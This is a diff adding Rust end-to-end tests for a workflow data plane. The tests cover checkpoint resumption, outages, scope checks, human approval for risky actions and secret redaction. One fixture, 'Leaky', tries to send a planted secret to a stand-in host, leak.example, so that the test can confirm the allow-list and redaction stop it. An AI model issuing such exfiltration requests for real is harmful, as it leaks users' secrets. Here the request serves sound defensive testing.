@@ -1,0 +1,635 @@
+//! The data plane against a real control plane over HTTP on 127.0.0.1 (SQLite): a whole run, a data plane
+//! lost mid-run and another resuming from the checkpoint, the control plane away for a while, and a
+//! planted secret that never reaches the control plane.
+
+use std::sync::atomic::{AtomicU32, Ordering};
+use std::time::Duration;
+
+use dp_runtime::nodes::{NodeContext, NodeError};
+use dp_runtime::tools::{Tool, ToolFuture, ToolRegistry};
+use manifest::Risk;
+use serde_json::{Value, json};
+
+use crate::cp::{Cp, DETECTOR, Dp, DpSetup, NORMALIZER, NORMALIZER_HANDING_OFF};
+
+const LIMIT: Duration = Duration::from_secs(30);
+
+fn normalizer_inputs() -> Value {
+    json!({"billing_source": "data", "period": "2025-11"})
+}
+
+#[actix_web::test]
+async fn a_billing_normalizer_run_goes_from_queued_to_succeeded_with_events_and_checkpoints() {
+    let cp = Cp::start().await;
+    let at = cp.install(NORMALIZER, &["billing:read", "reports:write"]).await;
+    let run = cp.start_run(&at, normalizer_inputs()).await;
+    assert_eq!(cp.run(&at, &run).await["state"], "queued");
+
+    let dp = Dp::start(DpSetup {
+        ..DpSetup::new(&cp, &at.credential, "dp-a")
+    });
+    let view = cp.wait_for(&at, &run, "succeeded", LIMIT).await;
+    assert_eq!(view["outputs"]["records"], 15000);
+    assert_eq!(view["outputs"]["payload_ref"], "report://normalized-2025-11");
+    assert_eq!(view["outputs"]["total_cost"], "65229.0695");
+    assert_eq!(view["usage"]["units"]["records"], 15000, "{view:#}");
+    let timeline: Vec<&str> = view["timeline"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|step| step["node"].as_str())
+        .collect();
+    assert_eq!(view["outputs"]["services"], 15);
+    for node in ["normalize", "services", "files", "result"] {
+        assert!(
+            timeline.contains(&node),
+            "{node} is not in the timeline: {timeline:?}"
+        );
+    }
+
+    let events = cp.events(&at, &run).await;
+    let checkpoints: Vec<&Value> = events
+        .iter()
+        .filter(|event| event["type"] == "checkpoint")
+        .collect();
+    assert_eq!(checkpoints.len(), 4, "one checkpoint per node: {events:#?}");
+    let last = &checkpoints[3]["checkpoint"]["nodes"];
+    assert_eq!(last.as_object().unwrap().len(), 4);
+    assert_eq!(dp.metrics.tasks_succeeded.load(Ordering::Relaxed), 1);
+    dp.stop().await;
+}
+
+static FIRST_RUNS: AtomicU32 = AtomicU32::new(0);
+
+/// Counts its calls.
+struct Count;
+
+impl Tool for Count {
+    fn name(&self) -> &str {
+        "test.count"
+    }
+    fn scopes(&self) -> &[&str] {
+        &[]
+    }
+    fn risk(&self) -> Risk {
+        Risk::Low
+    }
+    fn call<'a>(&'a self, _input: Value, _ctx: &'a NodeContext) -> ToolFuture<'a> {
+        Box::pin(async {
+            let calls = FIRST_RUNS.fetch_add(1, Ordering::SeqCst) + 1;
+            Ok(json!({"calls": calls}))
+        })
+    }
+}
+
+/// Never finishes: the data plane running it is lost before it does.
+struct Hang;
+
+impl Tool for Hang {
+    fn name(&self) -> &str {
+        "test.hold"
+    }
+    fn scopes(&self) -> &[&str] {
+        &[]
+    }
+    fn risk(&self) -> Risk {
+        Risk::Low
+    }
+    fn call<'a>(&'a self, _input: Value, _ctx: &'a NodeContext) -> ToolFuture<'a> {
+        Box::pin(async {
+            tokio::time::sleep(Duration::from_secs(3600)).await;
+            Err(NodeError::fatal("unreachable"))
+        })
+    }
+}
+
+/// Passes its input on.
+struct Pass;
+
+impl Tool for Pass {
+    fn name(&self) -> &str {
+        "test.hold"
+    }
+    fn scopes(&self) -> &[&str] {
+        &[]
+    }
+    fn risk(&self) -> Risk {
+        Risk::Low
+    }
+    fn call<'a>(&'a self, input: Value, _ctx: &'a NodeContext) -> ToolFuture<'a> {
+        Box::pin(async move { Ok(json!({"passed": input})) })
+    }
+}
+
+fn hanging_tools(tools: &mut ToolRegistry) {
+    tools.register(Count).register(Hang);
+}
+
+fn passing_tools(tools: &mut ToolRegistry) {
+    tools.register(Count).register(Pass);
+}
+
+const RESUMABLE: &str = r#"
+id: com.example.e2e.resumable
+name: Resumable
+version: 1.0.0
+description: Two steps; the second outlives the first data plane.
+category: testing
+workflow:
+  nodes:
+    - { id: first, kind: tool, config: { tool: test.count, input: {} } }
+    - { id: second, kind: tool, config: { tool: test.hold, input: $/first } }
+  edges:
+    - { from: first, to: second }
+tools:
+  - { name: test.count, risk: low }
+  - { name: test.hold, risk: low }
+"#;
+
+#[actix_web::test]
+async fn a_data_plane_lost_mid_run_is_replaced_by_another_that_resumes_from_the_checkpoint() {
+    let cp = Cp::start().await;
+    let at = cp.install(RESUMABLE, &[]).await;
+    let run = cp.start_run(&at, json!({})).await;
+    let lost = Dp::start(DpSetup {
+        extra: hanging_tools,
+        ..DpSetup::new(&cp, &at.credential, "dp-lost")
+    });
+    // Wait until the first node's checkpoint is stored, then lose the data plane with its task.
+    let deadline = tokio::time::Instant::now() + LIMIT;
+    loop {
+        let view = cp.run(&at, &run).await;
+        let done = view["timeline"].as_array().is_some_and(|steps| {
+            steps
+                .iter()
+                .any(|step| step["node"] == "first" && step["status"] == "succeeded")
+        });
+        if done {
+            break;
+        }
+        assert!(
+            tokio::time::Instant::now() < deadline,
+            "the first node never finished: {view:#}"
+        );
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    tokio::time::sleep(Duration::from_millis(200)).await;
+    lost.handle.abort();
+    cp.expire_leases().await;
+
+    let other = Dp::start(DpSetup {
+        extra: passing_tools,
+        ..DpSetup::new(&cp, &at.credential, "dp-other")
+    });
+    let view = cp.wait_for(&at, &run, "succeeded", LIMIT).await;
+    assert_eq!(view["outputs"], json!({"passed": {"calls": 1}}), "{view:#}");
+    assert_eq!(
+        FIRST_RUNS.load(Ordering::SeqCst),
+        1,
+        "the finished node ran again"
+    );
+    assert_eq!(view["attempts"], 2);
+    other.stop().await;
+}
+
+#[actix_web::test]
+async fn the_data_plane_rides_out_a_control_plane_outage() {
+    let mut cp = Cp::start().await;
+    let at = cp.install(NORMALIZER, &["billing:read", "reports:write"]).await;
+    let dp = Dp::start(DpSetup {
+        ..DpSetup::new(&cp, &at.credential, "dp-patient")
+    });
+    let deadline = tokio::time::Instant::now() + LIMIT;
+    while !dp.metrics.registered.load(Ordering::Relaxed) {
+        assert!(tokio::time::Instant::now() < deadline, "never registered");
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+    cp.stop().await;
+    tokio::time::sleep(Duration::from_secs(5)).await;
+    assert!(
+        dp.metrics.control_plane_errors.load(Ordering::Relaxed) > 0,
+        "the data plane did not notice the outage"
+    );
+    assert!(!dp.handle.is_finished(), "the data plane gave up");
+    cp.serve();
+    let run = cp.start_run(&at, normalizer_inputs()).await;
+    let view = cp.wait_for(&at, &run, "succeeded", LIMIT).await;
+    assert_eq!(view["outputs"]["records"], 15000);
+    dp.stop().await;
+}
+
+const LEAKY: &str = r#"
+id: com.example.e2e.leaky
+name: Leaky
+version: 1.0.0
+description: Tries to send its input out in every way it can.
+category: testing
+workflow:
+  nodes:
+    - id: leak
+      kind: tool
+      config: { tool: http_request, input: { url: "https://leak.example/collect?key=${/inputs/note}" } }
+      on_error: continue
+    - id: echo
+      kind: transform
+      config: { input: { note: $/inputs/note, key: $/inputs/key, error: $/leak/error } }
+  edges:
+    - { from: leak, to: echo }
+tools:
+  - { name: http_request, risk: medium }
+"#;
+
+#[actix_web::test]
+async fn a_planted_secret_never_reaches_the_control_plane() {
+    const PLANTED: &str = "planted-secret-4f9a2c";
+    const API_KEY: &str = "sk-live0123456789abcdefXYZ";
+    let cp = Cp::start().await;
+    let at = cp.install(LEAKY, &[]).await;
+    let run = cp
+        .start_run(
+            &at,
+            json!({"note": PLANTED, "key": format!("use {API_KEY} please")}),
+        )
+        .await;
+    let dp = Dp::start(DpSetup {
+        secrets: vec![PLANTED.to_owned()],
+        ..DpSetup::new(&cp, &at.credential, "dp-careful")
+    });
+    let view = cp.wait_for(&at, &run, "succeeded", LIMIT).await;
+    assert_eq!(
+        view["outputs"],
+        json!({
+            "note": "[REDACTED]",
+            "key": "use [REDACTED] please",
+            "error": "http_request: `https://leak.example/collect?key=[REDACTED]` is not on this data plane's allow-list; nothing was sent"
+        })
+    );
+    let events = cp.events(&at, &run).await;
+    let sent: Vec<&Value> = events.iter().filter(|event| event["type"] != "end").collect();
+    assert!(sent.len() >= 5, "{events:#?}");
+    let text = serde_json::to_string(&sent).unwrap();
+    assert!(
+        !text.contains(PLANTED) && !text.contains(API_KEY),
+        "a secret reached the control plane: {text}"
+    );
+    assert!(text.contains("[REDACTED]"));
+    dp.stop().await;
+}
+
+#[actix_web::test]
+async fn a_tool_without_its_granted_scope_fails_the_run_with_the_reason_and_writes_nothing() {
+    let cp = Cp::start().await;
+    let at = cp.install(NORMALIZER, &["billing:read"]).await;
+    let run = cp.start_run(&at, normalizer_inputs()).await;
+    let dp = Dp::start(DpSetup::new(&cp, &at.credential, "dp-strict"));
+    let view = cp.wait_for(&at, &run, "failed", LIMIT).await;
+    assert_eq!(
+        view["failure_reason"],
+        "node normalize: tool `billing.normalize` needs the permission `reports:write` which the org \
+         did not grant at install; nothing was run"
+    );
+    assert_eq!(dp.metrics.tasks_failed.load(Ordering::Relaxed), 1);
+    dp.stop().await;
+}
+
+static SLOW_CALLS: AtomicU32 = AtomicU32::new(0);
+
+/// Takes a moment, and counts its calls.
+struct Slow;
+
+impl Tool for Slow {
+    fn name(&self) -> &str {
+        "test.hold"
+    }
+    fn scopes(&self) -> &[&str] {
+        &[]
+    }
+    fn risk(&self) -> Risk {
+        Risk::Low
+    }
+    fn call<'a>(&'a self, _input: Value, _ctx: &'a NodeContext) -> ToolFuture<'a> {
+        Box::pin(async {
+            SLOW_CALLS.fetch_add(1, Ordering::SeqCst);
+            tokio::time::sleep(Duration::from_millis(700)).await;
+            Ok(json!({"slow": true}))
+        })
+    }
+}
+
+fn slow_tools(tools: &mut ToolRegistry) {
+    tools.register(Count).register(Slow);
+}
+
+/// Waits until the run's timeline shows `node` finished.
+async fn wait_for_node(cp: &Cp, at: &crate::cp::Installed, run: &str, node: &str) {
+    let deadline = tokio::time::Instant::now() + LIMIT;
+    loop {
+        let view = cp.run(at, run).await;
+        let done = view["timeline"].as_array().is_some_and(|steps| {
+            steps
+                .iter()
+                .any(|step| step["node"] == node && step["status"] == "succeeded")
+        });
+        if done {
+            return;
+        }
+        assert!(
+            tokio::time::Instant::now() < deadline,
+            "{node} never finished: {view:#}"
+        );
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+}
+
+#[actix_web::test]
+async fn on_shutdown_running_work_finishes_within_the_grace_and_the_poller_exits() {
+    let cp = Cp::start().await;
+    let at = cp.install(&RESUMABLE.replace("resumable", "draining"), &[]).await;
+    let run = cp.start_run(&at, json!({})).await;
+    let dp = Dp::start(DpSetup {
+        extra: slow_tools,
+        ..DpSetup::new(&cp, &at.credential, "dp-draining")
+    });
+    wait_for_node(&cp, &at, &run, "first").await;
+    dp.stop().await;
+    let view = cp.run(&at, &run).await;
+    assert_eq!(view["state"], "succeeded", "{view:#}");
+    assert_eq!(view["outputs"], json!({"slow": true}));
+}
+
+#[actix_web::test]
+async fn on_shutdown_work_past_the_grace_is_handed_back_and_resumed_elsewhere() {
+    let cp = Cp::start().await;
+    let at = cp
+        .install(&RESUMABLE.replace("resumable", "handed-back"), &[])
+        .await;
+    let run = cp.start_run(&at, json!({})).await;
+    let leaving = Dp::start(DpSetup {
+        extra: hanging_tools,
+        grace: Duration::from_millis(300),
+        ..DpSetup::new(&cp, &at.credential, "dp-leaving")
+    });
+    wait_for_node(&cp, &at, &run, "first").await;
+    let before = FIRST_RUNS.load(Ordering::SeqCst);
+    leaving.stop().await;
+    let view = cp.run(&at, &run).await;
+    assert_eq!(
+        view["state"], "queued",
+        "handed back for another attempt: {view:#}"
+    );
+
+    let next = Dp::start(DpSetup {
+        extra: passing_tools,
+        ..DpSetup::new(&cp, &at.credential, "dp-next")
+    });
+    let view = cp.wait_for(&at, &run, "succeeded", LIMIT).await;
+    assert_eq!(view["attempts"], 2);
+    assert_eq!(
+        FIRST_RUNS.load(Ordering::SeqCst),
+        before,
+        "the finished node ran again"
+    );
+    next.stop().await;
+}
+
+#[actix_web::test]
+async fn a_run_cancelled_through_the_api_stops_on_the_data_plane() {
+    let cp = Cp::start().await;
+    let at = cp
+        .install(&RESUMABLE.replace("resumable", "cancelled"), &[])
+        .await;
+    let run = cp.start_run(&at, json!({})).await;
+    let dp = Dp::start(DpSetup {
+        extra: hanging_tools,
+        ..DpSetup::new(&cp, &at.credential, "dp-obedient")
+    });
+    wait_for_node(&cp, &at, &run, "first").await;
+    cp.post(&format!("/api/v1/runs/{run}/cancel"), &at.operator, json!({}))
+        .await;
+    cp.wait_for(&at, &run, "cancelled", LIMIT).await;
+    assert_eq!(dp.metrics.tasks_failed.load(Ordering::Relaxed), 1);
+    dp.stop().await;
+}
+
+#[test]
+fn run_local_prints_progress_and_outputs() {
+    let reports = std::env::temp_dir().join(format!("dp-local-{}", uuid::Uuid::now_v7().simple()));
+    let output = std::process::Command::new(env!("CARGO_BIN_EXE_dp-runtime"))
+        .args([
+            "run-local",
+            concat!(
+                env!("CARGO_MANIFEST_DIR"),
+                "/tests/fixtures/billing-normalizer.yaml"
+            ),
+        ])
+        .args(["--input", r#"{"billing_source": "data", "period": "2025-11"}"#])
+        .args([
+            "--billing-root",
+            concat!(env!("CARGO_MANIFEST_DIR"), "/../../examples/finops"),
+        ])
+        .arg("--reports-root")
+        .arg(&reports)
+        .output()
+        .unwrap();
+    let _ = std::fs::remove_dir_all(&reports);
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(output.status.success(), "{stderr}");
+    let outputs: Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert_eq!(outputs["records"], 15000);
+    assert_eq!(outputs["total_cost"], "65229.0695");
+    for line in [
+        "▶ normalize",
+        "✓ normalize",
+        "records=15000",
+        "✓ result",
+        "run succeeded",
+    ] {
+        assert!(stderr.contains(line), "no {line:?} in:\n{stderr}");
+    }
+}
+
+#[actix_web::test]
+async fn the_finops_pair_end_to_end_the_normalizer_hands_its_report_to_the_detector_over_a2a() {
+    let cp = Cp::start().await;
+    let market = cp.market().await;
+    let normalizer = cp.publish(&market, NORMALIZER_HANDING_OFF).await;
+    let detector = cp.publish(&market, DETECTOR).await;
+    let operator = cp.operator().await;
+    let normalizing = cp
+        .install_into(&operator, &normalizer, &["billing:read", "reports:write"])
+        .await;
+    let detecting = cp.install_into(&operator, &detector, &["reports:read"]).await;
+    let reports = std::env::temp_dir().join(format!("dp-pair-{}", uuid::Uuid::now_v7().simple()));
+    let normalizer_dp = Dp::start(DpSetup {
+        reports: Some(reports.clone()),
+        a2a_token: Some(operator.0.clone()),
+        ..DpSetup::new(&cp, &normalizing.credential, "dp-normalizer")
+    });
+    let detector_dp = Dp::start(DpSetup {
+        reports: Some(reports.clone()),
+        ..DpSetup::new(&cp, &detecting.credential, "dp-detector")
+    });
+    let run = cp
+        .start_run(
+            &normalizing,
+            json!({"billing_source": "data", "period": "2025-11", "detector": detecting.deployment}),
+        )
+        .await;
+    let view = cp.wait_for(&normalizing, &run, "succeeded", LIMIT).await;
+    let handoff = &view["outputs"]["handoff"];
+    assert_eq!(handoff["status"], "completed", "{view:#}");
+    assert_eq!(handoff["to"], "com.aicloud.finops.anomaly-detector");
+    assert_eq!(handoff["from"], normalizing.deployment.as_str());
+    assert_eq!(handoff["payload_ref"], "report://normalized-2025-11");
+    let found: Vec<(String, String)> = handoff["outputs"]["anomalies"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|anomaly| {
+            (
+                anomaly["service"].as_str().unwrap().to_owned(),
+                anomaly["date"].as_str().unwrap().to_owned(),
+            )
+        })
+        .collect();
+    let truth: Value =
+        serde_json::from_str(include_str!("../../../../examples/finops/data/anomalies.json")).unwrap();
+    let mut expected: Vec<(String, String)> = truth["anomalies"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|anomaly| {
+            (
+                anomaly["service"].as_str().unwrap().to_owned(),
+                anomaly["date"].as_str().unwrap().to_owned(),
+            )
+        })
+        .collect();
+    let mut found_sorted = found.clone();
+    found_sorted.sort();
+    expected.sort();
+    assert_eq!(
+        found_sorted, expected,
+        "the detector found other anomalies than were planted"
+    );
+
+    // The child run is the detector's own run, in the same org, with the hand-over's inputs.
+    let child = cp.run(&detecting, handoff["task_id"].as_str().unwrap()).await;
+    assert_eq!(child["state"], "succeeded");
+    assert_eq!(child["inputs"]["payload_ref"], "report://normalized-2025-11");
+    normalizer_dp.stop().await;
+    detector_dp.stop().await;
+    let _ = std::fs::remove_dir_all(&reports);
+}
+
+const REMEDIATING: &str = r#"
+id: com.example.e2e.remediating
+name: Remediating
+version: 1.0.0
+description: Terminates an instance, which a human must approve first.
+category: testing
+workflow:
+  nodes:
+    - id: plan
+      kind: transform
+      config: { input: { actions: [{ action: terminate, resource: i-0abc }] } }
+    - id: fix
+      kind: tool
+      config: { tool: cloud.remediate, input: $/plan }
+  edges:
+    - { from: plan, to: fix }
+tools:
+  - { name: cloud.remediate, scopes: ["cloud.compute:write"], risk: high }
+constraints: [requires-human-approval-for-remediation]
+"#;
+
+#[actix_web::test]
+async fn a_risky_tool_suspends_for_approval_and_another_data_plane_resumes_it_once_approved() {
+    let cp = Cp::start().await;
+    let at = cp.install(REMEDIATING, &["cloud.compute:write"]).await;
+    let run = cp.start_run(&at, json!({})).await;
+    let careful = Dp::start(DpSetup::new(&cp, &at.credential, "dp-careful"));
+    let waiting = cp.wait_for(&at, &run, "awaiting_approval", LIMIT).await;
+    careful.stop().await;
+
+    let org = waiting["org_id"].as_str().unwrap();
+    let approvals = cp
+        .get(
+            &format!("/api/v1/orgs/{org}/approvals?run_id={run}"),
+            &at.operator,
+        )
+        .await;
+    let approval = &approvals["items"][0];
+    assert_eq!(
+        (approval["node"].as_str(), approval["state"].as_str()),
+        (Some("fix"), Some("pending")),
+        "{approvals:#}"
+    );
+    let id = approval["id"].as_str().unwrap();
+    let decided = cp
+        .post(
+            &format!("/api/v1/orgs/{org}/approvals/{id}/approve"),
+            &at.operator,
+            json!({"comment": "terminate it"}),
+        )
+        .await;
+    assert_eq!(decided["state"], "approved", "{decided:#}");
+
+    // Another data plane picks the run up from the checkpoint the first one suspended with.
+    let other = Dp::start(DpSetup::new(&cp, &at.credential, "dp-other"));
+    cp.wait_for(&at, &run, "remediated", LIMIT).await;
+    let events = cp.events(&at, &run).await;
+    let finished = |node: &str| {
+        events
+            .iter()
+            .filter(|event| event["type"] == "finished" && event["node"] == node)
+            .map(|event| event["status"].as_str().unwrap_or_default())
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(
+        finished("plan"),
+        ["succeeded"],
+        "the node before the approval ran once"
+    );
+    assert_eq!(
+        finished("fix"),
+        ["suspended", "succeeded"],
+        "the risky action waited for the approval, then ran once"
+    );
+    other.stop().await;
+}
+
+#[actix_web::test]
+async fn the_health_port_answers_and_shows_metrics() {
+    let cp = Cp::start().await;
+    let at = cp.install(NORMALIZER, &["billing:read", "reports:write"]).await;
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let address = listener.local_addr().unwrap();
+    let dp = Dp::start(DpSetup::new(&cp, &at.credential, "dp-observed"));
+    let shutdown = dp.shutdown.clone();
+    tokio::spawn(dp_runtime::health::serve(
+        listener,
+        std::sync::Arc::clone(&dp.metrics),
+        shutdown,
+    ));
+    let run = cp.start_run(&at, normalizer_inputs()).await;
+    cp.wait_for(&at, &run, "succeeded", LIMIT).await;
+    let http = reqwest::Client::new();
+    let health = http
+        .get(format!("http://{address}/health/ready"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(health.status(), 200);
+    let metrics = http
+        .get(format!("http://{address}/metrics"))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert!(metrics.contains("dp_tasks_succeeded_total 1"), "{metrics}");
+    assert!(metrics.contains("# TYPE dp_tasks_running gauge"), "{metrics}");
+    dp.stop().await;
+}
